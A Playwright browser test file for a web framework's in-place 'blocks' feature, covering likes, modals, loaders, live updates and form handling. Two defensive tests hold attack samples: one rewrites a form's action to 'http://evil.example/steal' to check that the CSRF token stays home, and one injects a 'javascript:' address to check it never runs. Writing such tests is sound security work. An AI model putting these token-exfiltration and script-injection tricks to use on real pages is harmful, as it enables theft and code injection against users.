import { gzipSync } from 'node:zlib';
import { beforeAll, describe, expect, test } from 'vitest';
import { hasBrowser, openLive } from '../support/browser';
import { configured } from '../support/configure';
import { useBrowser, usePage, useStage } from '../support/hooks';
import { openStage } from '../support/stage';
import { siteThemes } from '../support/theme';
import { timed } from '../support/time';
import { blocksElsewhere } from './blocks/elsewhere';
import { blocksInUse } from './blocks/in-use';

describe.skipIf(!hasBrowser)('blocks in a browser', () => {
  /** Holds blocks of the site; the host's CORS settings list its origin. */
  const elsewhere = usePage(
    () =>
      `<!doctype html><title>Elsewhere</title><script src="${site()}@@apps.js" defer></script>` +
      `<div id="like" data-apps-load="${site()}@@apps/count/blocks/like"></div>` +
      `<div id="live" data-apps-load="${site()}@@apps/live/blocks/total"></div>`,
    'localhost',
  );
  const stage = useStage(() => ({
    themesDirectory: siteThemes,
    env: {
      APPS_THEME: 'browser',
      APPS_CORS_ORIGINS: elsewhere.origin,
      ...configured({ apps: { redirectHosts: [new URL(elsewhere.origin).host] } }),
    },
  }));
  const browser = useBrowser();
  const site = () => `${stage.host.url}/site/`;
  beforeAll(() => stage.put('terms', 'one', { name: 'One', block: 'term' }));

  const total = async () => Number((await stage.items('count', 'total'))?.total ?? 0);

  test('a like in place keeps the page, the scroll position and the focus, and is announced', async () => {
    const { page, context, said } = await browser.visitor();
    await page.goto(site());
    await page.evaluate(() => Object.assign(window, { stays: true }));
    await page.evaluate(() => scrollTo(0, 120));
    const before = await total();
    await page.locator('button[name="action.like"]').focus();
    await page.keyboard.press('Enter');
    await page.waitForFunction((n) => document.querySelector('.total')?.textContent === String(n), before + 1);
    expect(
      await page.evaluate(() => [
        (window as { stays?: boolean }).stays,
        scrollY,
        document.activeElement?.getAttribute('name'),
      ]),
    ).toEqual([true, 120, 'action.like']);
    await page.waitForFunction(() => document.querySelector('[role=status]')?.textContent === 'Updated');
    expect(page.url()).toBe(site());
    expect(said.filter((line) => line.includes('liked'))).toEqual([
      expect.stringMatching(/^\[count\/like:\d+\] liked by somebody$/),
    ]);
    const other = await browser.visitor();
    await other.page.goto(site());
    expect(other.said.filter((line) => line.includes('liked'))).toEqual([]);
    await Promise.all([context.close(), other.context.close()]);
  });

  test('the event apps:load names the block, at the start and after each reload', async () => {
    const { page, context } = await browser.visitor();
    await page.addInitScript(() => {
      Object.assign(window, { loads: [] as string[] });
      document.addEventListener('apps:load', (event) => {
        (window as unknown as { loads: string[] }).loads.push((event as CustomEvent).detail.block);
      });
    });
    await page.goto(site());
    await page.locator('#now .info').waitFor();
    await page.locator('button[name="action.like"]').click();
    await page.waitForFunction(
      () => (window as unknown as { loads: string[] }).loads.filter((id) => id === 'like').length === 2,
    );
    expect(await page.evaluate(() => (window as unknown as { loads: string[] }).loads)).toEqual(
      expect.arrayContaining(['like', 'list', 'total', 'info']),
    );
    await context.close();
  });

  test('an edit link opens in place, a wrong field keeps what was entered, a right one is saved in place', async () => {
    const { page, context } = await browser.visitor();
    await page.goto(site());
    await page.locator('a.edit').click();
    const field = page.locator('form[name=term] input[name=name]');
    await field.waitFor();
    expect(page.url()).toBe(site());
    await field.fill('x');
    await page.evaluate(() => document.querySelector('form[name=term]')?.setAttribute('novalidate', ''));
    await page.locator('form[name=term] button[name=_save]').click();
    await page.locator('form[name=term] [aria-invalid=true]').waitFor();
    expect(await field.inputValue()).toBe('x');
    expect(await page.evaluate(() => document.activeElement?.getAttribute('name'))).toBe('name');
    await field.fill('Two');
    await page.locator('form[name=term] button[name=_save]').click();
    await expect.poll(async () => (await stage.items('terms', 'one'))?.name).toBe('Two');
    expect(page.url()).toBe(site());
    await context.close();
  });

  test('a modal opens, keeps the focus, closes by Escape and gives the focus back', async () => {
    const { page, context } = await browser.visitor();
    await page.goto(site());
    await page.locator('#modal').click();
    await page.locator('dialog[open] form[name=new]').waitFor();
    expect(await page.locator('dialog').getAttribute('aria-label')).toBe('New term');
    for (let press = 0; press < 8; press += 1) {
      await page.keyboard.press('Tab');
      const where = await page.evaluate(() => {
        const active = document.activeElement;
        return active === document.body || active?.closest('dialog') !== null;
      });
      expect(where).toBe(true);
    }
    await page.keyboard.press('Escape');
    await page.locator('dialog').waitFor({ state: 'detached' });
    expect(await page.evaluate(() => document.activeElement?.id)).toBe('modal');
    await context.close();
  });

  test('loaders load at once, by a click, by an event and when visible, and show a failing block as one', async () => {
    const { page, context } = await browser.visitor();
    await page.goto(site());
    await page.locator('#now .info').waitFor();
    await page.locator('#loader').click();
    await page.locator('#loaded .info').waitFor();
    expect(await page.locator('#event').textContent()).toBe('waiting');
    await page.evaluate(() => document.querySelector('#event')?.dispatchEvent(new Event('site:open')));
    await page.locator('#event .info').waitFor();
    expect(await page.locator('#visible').textContent()).toBe('waiting');
    await page.locator('#visible').scrollIntoViewIfNeeded();
    await page.locator('#visible .info').waitFor();
    expect(await page.locator('#broken [role=alert]').textContent()).toMatch(/^This part could not be loaded/);
    expect(await page.locator('#foreign [role=alert]').textContent()).toBe('This part could not be loaded');
    expect(await page.evaluate(() => (window as { evaluated?: boolean }).evaluated)).toBeUndefined();
    await context.close();
  });

  test('a token never goes to another origin', async () => {
    const { page, context } = await browser.visitor({ bypassCSP: true });
    const asked: string[] = [];
    await page.route('http://evil.example/**', async (route) => {
      asked.push(route.request().postData() ?? '');
      await route.fulfill({ status: 204 });
    });
    await page.goto(site());
    await page.locator('#note').fill('sent');
    await page.evaluate(() => {
      const button = document.querySelector<HTMLButtonElement>('form[name=like] button');
      button?.setAttribute('formaction', 'http://evil.example/steal');
      button?.form?.requestSubmit(button);
    });
    await expect.poll(() => asked.length).toBe(1);
    expect(asked[0]).toContain('note=sent');
    expect(asked[0]).not.toContain('_csrf');
    await context.close();
  });

  test('an address that is a script is never run', async () => {
    const { page, context } = await browser.visitor({ bypassCSP: true });
    await page.goto(site());
    const script = 'javascript:void(window.evaluated = true)';
    await page.evaluate((address) => {
      document
        .querySelector('main')
        ?.insertAdjacentHTML(
          'beforeend',
          `<p><a id="js-load" href="#" data-apps-load="${address}">1</a></p><p><a id="js-modal" href="#" data-apps-modal="${address}">2</a></p>` +
            `<div id="js-now" data-apps-load="${address}"></div>`,
        );
    }, script);
    await page.locator('#js-load').click();
    await page.locator('#js-load .apps-error').waitFor();
    await page.locator('#js-modal').click();
    await page.locator('dialog .apps-error').waitFor();
    await page.locator('#js-now .apps-error').waitFor();
    expect(await page.evaluate(() => (window as { evaluated?: boolean }).evaluated)).toBeUndefined();
    await context.close();
  });

  test('a live block shows the change of another visitor', async () => {
    await stage.put('live', 'n', { n: 1 });
    const { page, context } = await browser.visitor();
    const streams: string[] = [];
    page.on('request', (request) => {
      if (request.url().includes('@@apps.live?')) streams.push(request.url());
    });
    await openLive(page, site());
    expect(await page.locator('.live').textContent()).toBe('1');
    expect(streams).toHaveLength(1);
    await stage.send({ as: 'mona', send: 'PATCH live/record/n', json: { n: 2 } });
    await page.waitForFunction(() => document.querySelector('.live')?.textContent === '2');
    await context.close();
  });

  test('a live block shows the change of another server process', async () => {
    const second = await openStage({
      themesDirectory: siteThemes,
      env: { APPS_THEME: 'browser' },
      database: stage.host.database,
    });
    try {
      const { page, context } = await browser.visitor();
      await openLive(page, `${second.host.url}/site/`);
      await stage.send({ as: 'mona', send: 'PATCH live/record/n', json: { n: 3 } });
      await page.waitForFunction(() => document.querySelector('.live')?.textContent === '3');
      await context.close();
    } finally {
      await second.close();
    }
  });

  test('a page that is hidden holds no connection, and shows what has changed when it is visible again', async () => {
    const { page, context } = await browser.visitor();
    let open = 0;
    page.on('request', (request) => {
      if (request.url().includes('@@apps.live?')) open += 1;
    });
    page.on('requestfailed', (request) => {
      if (request.url().includes('@@apps.live?')) open -= 1;
    });
    const show = (hidden: boolean) =>
      page.evaluate((value) => {
        Object.defineProperty(document, 'hidden', { value, configurable: true });
        document.dispatchEvent(new Event('visibilitychange'));
      }, hidden);
    await stage.put('live', 'n', { n: 1 }).catch(() => undefined);
    await openLive(page, site());
    await show(true);
    await expect.poll(() => open).toBe(0);
    await stage.send({ as: 'mona', send: 'PATCH live/record/n', json: { n: 7 } });
    await show(false);
    await page.waitForFunction(() => document.querySelector('.live')?.textContent === '7');
    await expect.poll(() => open).toBe(1);
    await context.close();
  });

  test('a form that is sent as a page is sent once by two clicks and a held Enter key', async () => {
    const { page, context } = await browser.visitor();
    const posts: string[] = [];
    page.on('request', (request) => {
      if (request.method() === 'POST') posts.push(request.url());
    });
    const twice: Record<string, () => Promise<void>> = {
      'by clicks': () => page.locator('button[name=_save]').dblclick({ noWaitAfter: true }),
      'by keys': async () => {
        for (let press = 0; press < 5; press += 1) await page.keyboard.down('Enter');
      },
    };
    for (const [name, send] of Object.entries(twice)) {
      await page.goto(`${site()}@@apps/terms/blocks/slow`);
      await page.locator('input[name=name]').fill(name);
      const begin = posts.length;
      await send();
      await page.waitForURL(/record/);
      expect(posts.length - begin, name).toBe(1);
      await page.goBack();
    }
    const made = await stage.send<{ items: { name: string } }[]>({ as: 'mona', send: 'GET terms/records' });
    const names = made.json.map(({ items }) => items.name);
    expect(names.filter((name) => name in twice)).toEqual(Object.keys(twice));
    await context.close();
  });

  test('another button works at once while a form that was sent as a page leaves its page', async () => {
    const { page, context } = await browser.visitor();
    await page.goto(`${site()}@@apps/terms/blocks/slow`);
    await page.locator('input[name=name]').fill('Two buttons');
    await page
      .locator('form[name=slow]')
      .evaluate((form) =>
        form.insertAdjacentHTML('beforeend', '<button id="other" formtarget="_blank">Other</button>'),
      );
    await Promise.all([context.waitForEvent('page'), page.click('#other')]);
    await page.locator('button[name=_save]').click({ noWaitAfter: true });
    await page.waitForURL(/record/);
    await context.close();
  });

  test('a block refreshes itself every second', async () => {
    const { page, context } = await browser.visitor();
    await page.goto(`${site()}@@apps/live/blocks/tick`);
    const first = await page.locator('.tick').textContent();
    await page.waitForFunction((text) => document.querySelector('.tick')?.textContent !== text, first);
    await context.close();
  });

  test('everything works without JavaScript', async () => {
    const { page, context } = await browser.visitor({ javaScriptEnabled: false });
    await page.goto(site());
    const before = await total();
    await page.locator('button[name="action.like"]').click();
    expect(await page.locator('.total').textContent()).toBe(String(before + 1));
    await page.goto(site());
    const [opened] = await Promise.all([context.waitForEvent('page'), page.locator('a.edit').click()]);
    await opened.locator('form[name=term] input[name=name]').fill('Three');
    await opened.locator('form[name=term] button[name=_save]').click();
    expect((await stage.items('terms', 'one'))?.name).toBe('Three');
    await page.locator('#modal').click();
    expect(page.url()).toContain('/@@apps/terms/blocks/new');
    await context.close();
  });

  test.each<[what: string, file: boolean, button: string, from: () => string, to: () => string]>([
    ['a form leads to a configured host', false, 'Away', site, () => elsewhere.origin],
    ['so does one with a file', true, 'Away', site, () => elsewhere.origin],
    ['so does one in a page of another origin', false, 'Away', () => elsewhere.origin, () => elsewhere.origin],
    ['a form leads to a file', false, 'File', site, () => `${site()}@@apps.css`],
    ['a form leads to a login, and is sent once', false, 'Away', site, () => `${site()}@@apps/live/blocks/members`],
    ['so does one with a file', true, 'Away', site, () => `${site()}@@apps/live/blocks/members`],
    ['a form leads to an error, and is sent once', false, 'Away', site, () => `${site()}@@apps/terms/record/none`],
  ])('in place, %s', async (_, hasFile, button, from, to) => {
    await stage.put('live', 'n', { n: 1 }).catch(() => undefined);
    const { n } = (await stage.items('live', 'n')) as { n: number };
    const { page, context } = await browser.visitor({ bypassCSP: true });
    const target = `${to()}?led`;
    await page.goto(from());
    await page.evaluate(
      (address) => document.body.insertAdjacentHTML('beforeend', `<div data-apps-load="${address}"></div>`),
      `${site()}@@apps/live/blocks/away?to=${encodeURIComponent(target)}`,
    );
    if (hasFile)
      await page.setInputFiles('[name=picture]', { name: 'a.txt', mimeType: 'text/plain', buffer: Buffer.from('a') });
    await page.click(`text="${button}"`);
    const [end, changed] = button === 'Away' ? [new URL(target).href, n + 1] : [to(), n];
    await page.waitForURL(end);
    expect((await stage.items('live', 'n'))?.n).toBe(changed);
    await context.close();
  });

  blocksElsewhere(stage, browser, elsewhere);

  blocksInUse(stage, browser);

  test('the script is small', async () => {
    const text = await (await fetch(`${site()}@@apps.js`)).text();
    expect(gzipSync(text).length).toBeLessThan(6_000);
  });

  test('open pages do not keep the server from stopping', async () => {
    const own = await openStage({ themesDirectory: siteThemes, env: { APPS_THEME: 'browser' } });
    const { page, context } = await browser.visitor();
    await openLive(page, `${own.host.url}/site/`);
    const { time } = await timed(() => own.close());
    expect(time).toBeLessThan(9_000);
    await context.close();
  });
});
